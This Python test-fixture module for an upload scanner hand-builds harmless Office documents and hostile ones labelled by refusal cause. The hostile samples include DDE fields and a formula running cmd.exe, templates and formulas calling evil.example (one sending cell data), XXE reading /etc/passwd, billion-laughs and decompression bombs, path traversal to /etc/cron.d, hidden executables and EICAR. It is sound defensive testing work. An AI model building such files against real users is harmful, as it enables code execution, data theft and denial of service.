"""Office documents written by hand, part by part: good ones, and hostile ones with the cause of each refusal."""

import io
import struct
import zipfile
from collections.abc import Mapping

from coalition.uploads.inspector.verdict import Cause
from tests.uploads.files import PLAIN_PDF, image

TYPE = "application/vnd.openxmlformats-officedocument."
KINDS = {
    "docx": (f"{TYPE}wordprocessingml.document", "word/document.xml"),
    "xlsx": (f"{TYPE}spreadsheetml.sheet", "xl/workbook.xml"),
    "pptx": (f"{TYPE}presentationml.presentation", "ppt/presentation.xml"),
}
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


def relations(*more: tuple[str, str, bool]) -> bytes:
    """Return relations of (kind, target, outside)."""
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{RELATION}{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if outside else ''}/>"
        for number, (kind, target, outside) in enumerate(more)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'.encode()


def types(main: str, place: str, *more: str) -> bytes:
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/{place}" ContentType="{main}.main+xml"/>{"".join(more)}</Types>'
    ).encode()


def body(words: str = "<w:p><w:r><w:t>Guide</w:t></w:r></w:p>") -> bytes:
    names = f'xmlns:w="{WORD}" xmlns:v="urn:schemas-microsoft-com:vml"'
    return f"<w:document {names}><w:body>{words}</w:body></w:document>".encode()


def parts(kind: str = "docx", main: bytes = b"", listed: tuple[str, ...] = ()) -> dict[str, bytes]:
    """Return the parts of a plain document; `main` replaces its main part, `listed` are further types."""
    media_type, place = KINDS[kind]
    return {
        "[Content_Types].xml": types(media_type, place, *listed),
        "_rels/.rels": relations(("officeDocument", place, False)),
        place: main or (body() if kind == "docx" else b"<workbook/>"),
    }


def zipped(contents: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method, compresslevel=1) as archive:
        for name, content in contents.items():
            archive.writestr(name, content)
    return target.getvalue()


def made(kind: str = "docx", main: bytes = b"", listed: tuple[str, ...] = (), **more: bytes) -> bytes:
    """Return a document with further parts, two underscores of whose names are a slash and one a dot."""
    further = {name.replace("__", "/").replace("_", "."): part for name, part in more.items()}
    return zipped(parts(kind, main, listed) | further)


def related(kind: str, *told: tuple[str, str, bool]) -> bytes:
    """Return a document whose main part leads to `told`."""
    folder, _slash, name = KINDS[kind][1].partition("/")
    return zipped(parts(kind) | {f"{folder}/_rels/{name}.rels": relations(*told)})


def field(*runs: str) -> bytes:
    """Return a text with a field whose words are divided into `runs`."""
    told = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return made(main=body(f"<w:p>{begin}{told}{end}</w:p>"))


def formula(words: str) -> bytes:
    return made("xlsx", xl__worksheets__sheet1_xml=f"<worksheet><c><f>{words}</f><v>1</v></c></worksheet>".encode())


def slide(action: str) -> bytes:
    return made("pptx", ppt__slides__slide1_xml=f'<sld><hlinkClick action="{action}"/></sld>'.encode())


def overlapping() -> bytes:
    """Return a document two entries of whose directory are one part."""
    content = made(word__a_xml=b"<a/>", word__b_xml=b"<a/>")
    start = content.rindex(b"PK\x01\x02", 0, content.rindex(b"word/b.xml"))
    first = content.rindex(b"PK\x01\x02", 0, content.rindex(b"word/a.xml"))
    return content[: start + 42] + content[first + 42 : first + 46] + content[start + 46 :]


def hidden() -> bytes:
    """Return a document with a program between its parts and its directory."""
    content = made()
    end = content.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<L", content, end + 16)[0]
    more = b"MZ" + b"\0" * 60
    return content[:start] + more + content[start:end] + content[end : end + 16] + struct.pack(
        "<L", start + len(more)
    ) + content[end + 20 :]  # fmt: skip


DTD = b'<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    b"<!DOCTYPE d ["
    + b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10 if n else b"ha") for n in range(9))
    + b"]>"
)
MACRO_TYPE = '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
BIG = b"<a>" + b" " * (70 * 1024 * 1024) + b"</a>"
LARGE = b"<a>" + b" " * (60 * 1024 * 1024) + b"</a>"
INNER = made("xlsx")
BY_CAUSE: dict[Cause, dict[str, bytes]] = {
    Cause.MACRO: {
        "macros by their name": made(word__vbaProject_bin=OLE),
        "macros by the list of types": made(listed=(MACRO_TYPE,)),
        "macros by what leads to them": related("docx", ("vbaProject", "x.xml", False)),
        "macros of another age": related("xlsx", ("xlMacrosheet", "x.xml", False)),
        "macro of a button": made("xlsx", xl__drawings__d_xml=b'<sp macro="[0]!Go"/>'),
        "macro of a slide": slide("ppaction://macro?name=Go"),
        "ribbon of one's own": made(customUI__customUI_xml=b'<b onAction="Go"/>'),
        "workbook with macros": made(word__embeddings__a_xlsx=made("xlsx", xl__vbaProject_bin=OLE)),
    },
    Cause.OFFICE: {
        "a document of another kind": zipped(
            parts() | {"[Content_Types].xml": types(f"{TYPE}wordprocessingml.template", "word/document.xml")}
        ),
    },
    Cause.LINKED: {
        "outside template": related("docx", ("attachedTemplate", "https://evil.example/x.dotm", True)),
        "template on a share": related("docx", ("attachedTemplate", "\\\\evil.example\\x.dotm", True)),
        "template that says it is inside": related("docx", ("attachedTemplate", "x.dotm", False)),
        "picture that tells who reads": related("docx", ("image", "https://evil.example/1.png", True)),
        "outside object": related("docx", ("oleObject", "https://evil.example/x.html!x", True)),
        "frames": related("docx", ("frame", "https://evil.example/", True)),
        "data of a mailing": related("docx", ("mailMergeSource", "file:///c:/x.mdb", True)),
        "other workbook": related("xlsx", ("externalLink", "externalLinks/e.xml", False)),
        "connection": related("xlsx", ("connections", "connections.xml", False)),
        "pane of a web page": related("docx", ("webextension", "w.xml", False)),
        "link to a file": related("docx", ("hyperlink", "file:///c:/windows/calc.exe", True)),
        "link to a script": related("docx", ("hyperlink", "java&#10;script:x()", True)),
        "address that says it is inside": related("docx", ("image", "https://evil.example/1.png", False)),
        "program of a slide": slide("ppaction://program"),
        "DDE": field("DDEAUTO c:\\\\cmd.exe"),
        "DDE in pieces": field("D", "DE", "AUTO c:\\\\cmd.exe"),
        "DDE in an attribute": made(main=body('<w:fldSimple w:instr=" DDE cmd x"/>')),
        "DDE that was deleted": made(
            main=body('<w:fldChar w:fldCharType="begin"/><w:delInstrText>DDE cmd</w:delInstrText>')
        ),
        "DDE outside of a field": made(main=body("<w:instrText>DDE cmd</w:instrText>")),
        "DDE that a field spells": made(
            main=body(
                '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/>'
                "<w:instrText>QUOTE 68 68 69</w:instrText>"
                '<w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>'
            )
        ),
        "a field that fetches": field('INCLUDEPICTURE "https://evil.example/1.png"'),
        "a field that opens a file": field('HYPERLINK "file:///c:/x.exe"'),
        "formula that fetches": formula('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'),
        "formula of DDE": formula("cmd|&apos;/c calc&apos;!A0"),
        "formula that opens a file": formula('HYPERLINK("\\\\evil.example\\x","Here")'),
        "picture of an old drawing": made(main=body('<v:imagedata src="https://evil.example/1.png"/>')),
        "query in a part of one's own": made("xlsx", customXml__item1_xml=b"<DataMashup>x</DataMashup>"),
    },
    Cause.EMBEDDED: {
        "object": made(word__embeddings__oleObject1_bin=OLE),
        "object that says it is a picture": made(word__media__image1_png=OLE),
        "object by what leads to it": related("docx", ("oleObject", "x.xml", False)),
        "object in the text": made(main=body("<w:object><OLEObject/></w:object>")),
        "control": related("docx", ("control", "activeX/a.xml", False)),
        "program": made(word__media__a_exe=b"MZ"),
        "program as a font": made(word__fonts__font1_odttf=b"MZ" + b"\0" * 60),
        "program as settings of a printer": made(xl__printerSettings__p1_bin=b"MZ" + b"\0" * 60),
        "PDF": made(word__embeddings__a_pdf=PLAIN_PDF),
        "web page in the text": related("docx", ("aFChunk", "a.xml", False)),
        "text within a text": made(word__embeddings__a_xlsx=made()),
        "workbook within a workbook": made(word__embeddings__a_xlsx=made("xlsx", xl__embeddings__b_xlsx=INNER)),
    },
    Cause.MULTIMEDIA: {
        "film": made("pptx", ppt__media__media1_mp4=b"\0\0\0\x20ftypisom"),
        "outside film": related("pptx", ("video", "https://evil.example/a.mp4", True)),
    },
    Cause.DECLARES: {
        "outside entity": made(main=DTD + b"<d>&e;</d>"),
        "outside entity in UTF-16": made(main=DTD.decode().encode("utf-16") + "<d/>".encode("utf-16-le")),
        "a billion laughs": made(main=LAUGHS + b"<d>&e8;</d>"),
        "entity in the list of types": zipped(parts() | {"[Content_Types].xml": DTD + b"<T/>"}),
        "entity in a relation": zipped(parts() | {"word/_rels/a.xml.rels": DTD + b"<R/>"}),
    },
    Cause.TOO_COMPLEX: {
        "part that inflates to 70 MB": made(word__a_xml=BIG),
        "parts that inflate to 300 MB": made(**{f"word__a{number}_xml": LARGE for number in range(5)}),
        "5,001 parts": zipped(parts() | {f"word/{number}.xml": b"<a/>" for number in range(5_001)}),
    },
    Cause.BROKEN_OFFICE: {
        "overlapping parts": overlapping(),
        "path that climbs": zipped(parts() | {"../../etc/cron.d/x.xml": b"<a/>"}),
        "one name in two spellings": zipped(parts() | {"word/Document.xml": body()}),
        "packing that few know": zipped(parts(), zipfile.ZIP_LZMA),
        "XML that says it is a picture": made(
            listed=('<Override PartName="/word/a.png" ContentType="application/x.main+xml"/>',)
        ),
        "cut": made()[:-30],
        "no XML": made(main=b"<w:document"),
        "nothing that leads to its text": zipped(parts() | {"_rels/.rels": relations()}),
    },
    Cause.TWO_FILES_IN_ONE: {
        "bytes between the parts": hidden(),
        "page behind the document": made() + b"<html><script>x</script>",
    },
    Cause.MALWARE: {
        "test virus": made(word__media__a_png=image("PNG") + EICAR),
    },
}
REFUSED = {name: (content, cause) for cause, files in BY_CAUSE.items() for name, content in files.items()}
TAKEN = {
    "plain text": made(),
    "plain workbook": INNER,
    "plain slides": made("pptx"),
    "picture, link and settings of a printer": zipped(
        parts() | {
            "word/_rels/document.xml.rels": relations(
                ("hyperlink", "https://www.who.int/a?b", True), ("hyperlink", "mailto:a@town.example", True),
                ("image", "media/a.png", False),
            ),
            "word/media/a.png": image("PNG"), "word/printerSettings1.bin": b"\0" * 20, "word/media/": b"",
        }
    ),
    "contents, pages and links": field(' TOC \\o "1-3" ', ""),
    "link to the web": field('HYPERLINK "https://www.who.int/"'),
    "figures of a chart": made(word__embeddings__a_xlsx=INNER),
    "sums": formula('SUM(A1:A3)&amp;IF(B1="a|b",1,2)'),
    "slide that leads to the next": slide("ppaction://hlinkshowjump?jump=nextslide"),
}  # fmt: skip
